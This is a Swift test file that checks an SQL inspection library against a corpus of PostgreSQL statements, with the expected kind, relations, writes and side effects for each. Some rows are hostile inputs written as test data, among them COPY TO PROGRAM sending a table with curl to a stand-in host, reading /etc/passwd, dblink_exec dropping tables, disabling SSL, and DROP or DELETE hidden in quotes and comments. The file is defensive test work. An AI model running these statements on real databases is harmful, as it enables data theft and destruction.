import Testing
import SQLInspection

/// One corpus row: a single statement and what the inspector must report.
/// Relations are written `r:schema.name` / `w:schema.name`.
struct Case: Sendable, CustomTestStringConvertible {
    let sql: String
    let kind: String
    let relations: Set<String>
    let writes: Bool
    let sideEffects: Set<String>
    let functions: [String]?

    init(_ sql: String, _ kind: String, _ relations: Set<String> = [], writes: Bool,
         effects: Set<String> = [], functions: [String]? = nil) {
        self.sql = sql; self.kind = kind; self.relations = relations; self.writes = writes
        self.sideEffects = effects; self.functions = functions
    }

    var testDescription: String { sql }
}

let corpus: [Case] = [
    // Plain reads, joins, qualification.
    Case("SELECT a.id, b.name FROM sales.orders a JOIN customers b ON a.cid = b.id LEFT JOIN analytics.x USING (id)",
         "select", ["r:sales.orders", "r:public.customers", "r:analytics.x"], writes: false),
    Case("SELECT * FROM t WHERE id IN (SELECT id FROM s.u WHERE x > (SELECT max(y) FROM v))",
         "select", ["r:public.t", "r:s.u", "r:public.v"], writes: false, functions: ["max"]),
    Case("SELECT * FROM pg_stat_activity", "select", ["r:pg_catalog.pg_stat_activity"], writes: false),
    Case("VALUES (1), (2)", "select", writes: false),
    // CTEs: writes inside, names are not relations, scoping.
    Case("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select", ["w:public.t"], writes: true,
         effects: ["data-modifying CTE"]),
    Case("WITH x AS (SELECT * FROM s.base) SELECT * FROM x JOIN y ON true", "select", ["r:s.base", "r:public.y"], writes: false),
    Case("SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) a, t", "select", ["r:public.t"], writes: false),
    Case("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", "select", ["r:public.b"], writes: false),
    Case("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", "select", writes: false),
    Case("WITH i AS (INSERT INTO audit.log VALUES (1) RETURNING id) UPDATE t SET x = 1 FROM i WHERE t.id = i.id",
         "update", ["w:audit.log", "w:public.t"], writes: true, effects: ["data-modifying CTE"]),
    // SELECT INTO, locking reads.
    Case("SELECT * INTO newt FROM t", "select", ["w:public.newt", "r:public.t"], writes: true, effects: ["SELECT INTO"]),
    Case("SELECT * FROM t FOR UPDATE", "select", ["r:public.t"], writes: true, effects: ["FOR UPDATE"]),
    Case("SELECT * FROM t FOR SHARE SKIP LOCKED", "select", ["r:public.t"], writes: true, effects: ["FOR SHARE"]),
    // EXPLAIN: ANALYZE executes, plain EXPLAIN only plans.
    Case("EXPLAIN ANALYZE DELETE FROM t", "explain", ["w:public.t"], writes: true),
    Case("EXPLAIN (ANALYZE, BUFFERS) WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", "explain", ["w:public.t"],
         writes: true, effects: ["data-modifying CTE"]),
    Case("EXPLAIN DELETE FROM t", "explain", ["r:public.t"], writes: false),
    Case("EXPLAIN (ANALYZE false) DELETE FROM t", "explain", ["r:public.t"], writes: false),
    Case("EXPLAIN SELECT * FROM t", "explain", ["r:public.t"], writes: false),
    // DO, CALL.
    Case("DO $$BEGIN DELETE FROM t; END$$", "do", writes: true, effects: ["DO block"]),
    Case("DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$", "do", writes: true, effects: ["DO block"]),
    Case("CALL admin.cleanup(1)", "call", writes: true, effects: ["CALL"], functions: ["admin.cleanup"]),
    // Settings.
    Case("SELECT set_config('role', 'postgres', false)", "select", writes: true, effects: ["set_config(role)"],
         functions: ["set_config"]),
    Case("SELECT set_config('statement_timeout', '5s', true)", "select", writes: true,
         effects: ["set_config(statement_timeout)"]),
    Case("SELECT set_config(lower('ROLE'), 'x', false)", "select", writes: true, effects: ["set_config(<dynamic>)"]),
    Case("SET ROLE admin", "set", writes: true, effects: ["SET role"]),
    Case("SET SESSION AUTHORIZATION bob", "set", writes: true, effects: ["SET session_authorization"]),
    Case("SET search_path TO evil, public", "set", writes: true, effects: ["SET search_path"]),
    Case("SET default_transaction_read_only = off", "set", writes: true, effects: ["SET default_transaction_read_only"]),
    Case("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "set", writes: true,
         effects: ["SET default_transaction_read_only"]),
    Case("SET TRANSACTION READ WRITE", "set", writes: true, effects: ["SET transaction_read_only"]),
    Case("SET TRANSACTION READ ONLY", "set", writes: false),
    Case("BEGIN READ WRITE", "begin", writes: true, effects: ["SET transaction_read_only"]),
    Case("BEGIN", "begin", writes: false),
    Case("SET statement_timeout = '5s'", "set", writes: false),
    Case("RESET role", "reset", writes: true, effects: ["RESET role"]),
    Case("RESET ALL", "reset", writes: true, effects: ["RESET ALL"]),
    Case("RESET work_mem", "reset", writes: false),
    Case("SHOW search_path", "show", writes: false),
    // COPY.
    Case("COPY t TO STDOUT", "copy", ["r:public.t"], writes: false),
    Case("COPY (SELECT * FROM s.t) TO STDOUT WITH (FORMAT csv)", "copy", ["r:s.t"], writes: false),
    Case("COPY t FROM STDIN", "copy", ["w:public.t"], writes: true),
    Case("COPY t TO PROGRAM 'curl -d @- evil'", "copy", ["r:public.t"], writes: true, effects: ["COPY TO PROGRAM"]),
    Case("COPY t FROM PROGRAM 'id'", "copy", ["w:public.t"], writes: true, effects: ["COPY FROM PROGRAM"]),
    Case("COPY (DELETE FROM t RETURNING *) TO STDOUT", "copy", ["w:public.t"], writes: true,
         effects: ["data-modifying CTE"]),
    Case("EXPLAIN EXECUTE p(1)", "explain", writes: false),
    Case("EXPLAIN ANALYZE EXECUTE p(1)", "explain", writes: true, effects: ["EXECUTE of an unresolved prepared statement"]),
    Case("SELECT * FROM \"odd.schema\".\"t.x\", s.\"Mixed\"", "select", ["r:odd.schema.t.x", "r:s.Mixed"], writes: false),
    Case("SELECT * FROM \"tä\"\"b\\\", \"\u{1F600}\tx\"", "select", ["r:public.tä\"b\\", "r:public.\u{1F600}\tx"], writes: false),
    Case("COPY t TO '/tmp/x'", "copy", ["r:public.t"], writes: true, effects: ["COPY TO file"]),
    // Odd quoting and comments.
    Case("SELECT $x$ ; DROP TABLE t; $x$ FROM \"My Schema\".\"a.b\" -- ; DELETE FROM t\n", "select",
         ["r:My Schema.a.b"], writes: false),
    Case("SELECT * FROM U&\"d\\0061t\\+000061\" /* ; DELETE FROM t */", "select", ["r:public.data"], writes: false),
    Case("SELECT * FROM \"Public\".\"T\"", "select", ["r:Public.T"], writes: false),
    // Functions in SELECT.
    Case("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", "select",
         ["r:pg_catalog.pg_stat_activity"], writes: true, effects: ["side-effect function pg_terminate_backend"],
         functions: ["pg_terminate_backend"]),
    Case("SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')", "select", writes: true,
         effects: ["side-effect function pg_read_file"], functions: ["pg_catalog.pg_read_file"]),
    Case("SELECT count(*), lower(name) FROM t GROUP BY 2", "select", ["r:public.t"], writes: false,
         functions: ["count", "lower"]),
    Case("SELECT nextval('s')", "select", writes: true, effects: ["side-effect function nextval"]),
    Case("SELECT (SELECT dblink_exec('host=x', 'DROP TABLE y'))", "select", writes: true,
         effects: ["side-effect function dblink_exec"]),
    // DML.
    Case("INSERT INTO archive.orders SELECT * FROM sales.orders WHERE ts < now()", "insert",
         ["w:archive.orders", "r:sales.orders"], writes: true, functions: ["now"]),
    Case("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = excluded.x", "insert", ["w:public.t"], writes: true),
    Case("UPDATE t SET x = s.x FROM s.src s WHERE t.id = s.id", "update", ["w:public.t", "r:s.src"], writes: true),
    Case("INSERT INTO t SELECT * FROM t", "insert", ["w:public.t", "r:public.t"], writes: true),
    Case("DELETE FROM s.t USING u WHERE s.t.id = u.id", "delete", ["w:s.t", "r:public.u"], writes: true),
    Case("MERGE INTO t USING s.src ON t.id = src.id WHEN MATCHED THEN UPDATE SET x = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)",
         "merge", ["w:public.t", "r:s.src"], writes: true),
    // DDL and privileges.
    Case("TRUNCATE a, s.b", "truncate", ["w:public.a", "w:s.b"], writes: true),
    Case("DROP TABLE s.t, u", "drop", ["w:s.t", "w:public.u"], writes: true),
    Case("DROP FUNCTION f(int)", "drop", writes: true),
    Case("GRANT SELECT ON s.t TO bob", "grant", ["w:s.t"], writes: true),
    Case("REVOKE ALL ON t FROM bob", "revoke", ["w:public.t"], writes: true),
    Case("GRANT admin TO me", "grant", writes: true),
    Case("CREATE TABLE s.n (id int)", "create_table", ["w:s.n"], writes: true),
    Case("CREATE TEMP TABLE n (id int)", "create_table", ["w:pg_temp.n"], writes: true),
    Case("CREATE TABLE n AS SELECT * FROM s.src", "create_table", ["w:public.n", "r:s.src"], writes: true),
    Case("CREATE VIEW v AS SELECT * FROM t", "other_ddl", ["w:public.v", "r:public.t"], writes: true),
    Case("ALTER TABLE t ADD COLUMN c int", "alter_table", ["w:public.t"], writes: true),
    Case("CREATE INDEX ON s.t (c)", "create_index", ["w:s.t"], writes: true),
    Case("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "create_function", writes: true),
    Case("COMMENT ON TABLE s.t IS 'x'", "comment", ["w:s.t"], writes: true),
    Case("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "lock", ["w:public.t"], writes: true),
    Case("VACUUM ANALYZE s.t", "vacuum", ["w:s.t"], writes: true),
    Case("ANALYZE t", "analyze", ["w:public.t"], writes: true),
    Case("ALTER SYSTEM SET ssl = off", "other_ddl", writes: true),
    Case("CREATE EXTENSION dblink", "other_ddl", writes: true),
    // Transactions, notifications, utilities.
    Case("COMMIT", "commit", writes: false),
    Case("ROLLBACK TO SAVEPOINT a", "rollback", writes: false),
    Case("SAVEPOINT a", "savepoint", writes: false),
    Case("LISTEN c", "listen", writes: false),
    Case("NOTIFY c, 'x'", "notify", writes: true, effects: ["NOTIFY"]),
    Case("DISCARD ALL", "other_utility", writes: true, effects: ["DISCARD ALL"]),
    Case("CHECKPOINT", "other_utility", writes: true, effects: ["CHECKPOINT"]),
    Case("DECLARE c CURSOR FOR SELECT * FROM t", "other_utility", ["r:public.t"], writes: false),
    Case("DEALLOCATE ALL", "deallocate", writes: false),
]

@Suite struct CorpusTests {
    @Test(arguments: corpus)
    func corpusCase(_ c: Case) throws {
        let inspection = try SQLInspector.inspect(c.sql)
        #expect(inspection.statements.count == 1)
        let f = try #require(inspection.statements.first)
        #expect(f.kind == c.kind)
        let rels = Set(f.relations.map { "\($0.access == .read ? "r" : "w"):\($0.schema).\($0.name)" })
        #expect(rels == c.relations)
        #expect(f.writes == c.writes)
        #expect(Set(f.sideEffects) == c.sideEffects)
        if let fns = c.functions { #expect(f.functions == fns) }
    }
}
